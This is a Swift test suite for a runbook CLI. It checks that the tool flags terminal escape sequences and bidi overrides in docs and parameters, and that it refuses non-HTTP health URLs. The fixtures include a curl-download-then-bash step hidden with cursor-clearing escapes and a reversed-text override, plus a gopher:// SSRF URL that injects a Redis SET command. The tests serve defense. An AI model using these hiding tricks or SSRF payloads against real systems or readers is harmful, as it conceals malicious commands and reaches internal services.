import Foundation
import OpsActions
import Testing
import TestSupport

/// What a doc or a parameter can smuggle past a reader: escape sequences and bidi overrides that
/// hide text on a terminal, and URLs that make a health probe talk to something else.
@Suite("Hostile text and URLs (CLI)")
struct HostileInputCLITests {
    static func project(_ dir: TempDir, doc: String) throws -> String {
        try FileManager.default.createDirectory(atPath: dir.file("docs"), withIntermediateDirectories: true)
        try "[site]\ntitle = \"t\"\ndocs = \"docs\"\n\n[env.test]\nregion = \"us-east-1\"\nhealth_url = \"http://127.0.0.1:9/health\"\n"
            .write(toFile: dir.file("runbook.toml"), atomically: true, encoding: .utf8)
        try doc.write(toFile: dir.file("docs/ops.md"), atomically: true, encoding: .utf8)
        return dir.file("runbook.toml")
    }

    static func environment(_ dir: TempDir) -> [String: String] {
        ["PATH": "/usr/bin:/bin", "HOME": dir.path, "RUNBOOK_AUDIT_LOG": dir.file("audit.jsonl"), "RUNBOOK_STATE_DIR": dir.file("state")]
    }

    static func hasRawHidingCharacter(_ text: String) -> Bool {
        text.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n" && $0 != "\t") || $0.value == 0x7F || (0x202A...0x202E).contains($0.value) }
    }

    @Test("a doc line with cursor-movement escapes or a bidi override: check names file:line, exec refuses, nothing shows raw")
    func escapesInADoc() async throws {
        let dir = TempDir()
        defer { dir.cleanup() }
        // On a terminal the escape moves the cursor up and clears the line: the download vanishes.
        let doc = "# Ops\n\n## Fetch {#fetch}\n\n```bash {id=fetch kind=act}\ncurl -fsS https://example.invalid/x.sh -o x.sh\u{1B}[1A\u{1B}[2K\nbash x.sh # \u{202E}hs.x hsab\necho done\n```\n"
        let config = try Self.project(dir, doc: doc)
        let env = Self.environment(dir)
        let check = try await ProcessRunner.run(RunbookExecutable.path, ["check", "--config", config, "--skip-site"], environment: env, inheritEnvironment: false)
        #expect(check.status == 1)
        let checkOut = check.stdout + check.stderr
        #expect(checkOut.contains("docs/ops.md:6:") && checkOut.contains("\\x1b"), "\(checkOut)")
        #expect(checkOut.contains("docs/ops.md:7:") && checkOut.contains("\\u202e"), "\(checkOut)")
        let dry = try await ProcessRunner.run(RunbookExecutable.path, ["exec", "ops#fetch", "--env", "test", "--config", config, "--dry-run"],
                                        environment: env, inheritEnvironment: false)
        #expect(dry.status == 2)
        #expect(!Self.hasRawHidingCharacter(dry.stdout + dry.stderr), "the refusal shows no raw control byte")
        #expect(dry.stderr.contains("docs/ops.md:6"))
    }

    @Test("a parameter value with an escape sequence is shown escaped in the plan and recorded escaped")
    func escapesInAParameter() async throws {
        let dir = TempDir()
        defer { dir.cleanup() }
        let doc = "# Ops\n\n## Say {#say}\n\n```bash {id=say kind=diagnose}\necho \"note: ${NOTE}\"\n```\n"
        let config = try Self.project(dir, doc: doc)
        let env = Self.environment(dir)
        let value = "ok\u{1B}[2K\u{202E}evil"
        for json in [false, true] {
            let dry = try await ProcessRunner.run(RunbookExecutable.path, ["exec", "ops#say", "--env", "test", "--config", config, "--dry-run",
                                                                     "--set", "NOTE=\(value)"] + (json ? ["--json"] : []),
                                            environment: env, inheritEnvironment: false)
            #expect(dry.status == 0, "\(dry.stderr)")
            #expect(!Self.hasRawHidingCharacter(dry.stdout), "json \(json): the plan shows no raw control or bidi character")
            #expect(dry.stdout.contains(json ? "\\u202e" : "\\x1b[2K\\u202eevil"), "\(dry.stdout)")
        }
        let run = try await ProcessRunner.run(RunbookExecutable.path, ["exec", "ops#say", "--env", "test", "--config", config, "--set", "NOTE=\(value)"],
                                        environment: env, inheritEnvironment: false)
        #expect(run.status == 0, "\(run.stderr)")
        let log = try String(contentsOfFile: dir.file("audit.jsonl"), encoding: .utf8)
        #expect(!log.unicodeScalars.contains { $0.value == 0x202E || $0.value == 0x1B }, "the audit log holds no raw control or bidi character")
        #expect(log.contains("\\\\x1b[2K\\\\u202eevil"), "the recorded command shows the value escaped")
    }

    @Test("a gopher:// health URL given by --set is refused: nothing reaches Redis, the step fails")
    func gopherHealthURLIsRefused() async throws {
        let redis = try RedisServer()
        defer { redis.stop() }
        let dir = TempDir()
        defer { dir.cleanup() }
        let doc = "# Ops\n\n## Health {#health}\n\n```bash {id=health kind=verify}\ncurl -fsS --max-time 5 ${HEALTH_URL}\n```\n"
        let config = try Self.project(dir, doc: doc)
        let url = "gopher://127.0.0.1:\(redis.port)/_SET%20runbook-canary%201%0D%0A"
        let run = try await ProcessRunner.run(RunbookExecutable.path, ["exec", "ops#health", "--env", "test", "--config", config, "--set", "HEALTH_URL=\(url)"],
                                        environment: Self.environment(dir), inheritEnvironment: false)
        #expect(run.status != 0)
        #expect((run.stdout + run.stderr).contains("only http:// and https:// URLs"), "\(run.stdout)\(run.stderr)")
        let value = try redis.client().command(["EXISTS", "runbook-canary"])
        #expect(value == .integer(0), "the key was not written")
        let probe = try await ProcessRunner.run(RunbookExecutable.path, ["probe", "health", "--url", url], environment: Self.environment(dir), inheritEnvironment: false)
        #expect(probe.status == 2)
        #expect(try redis.client().command(["EXISTS", "runbook-canary"]) == .integer(0))
    }
}
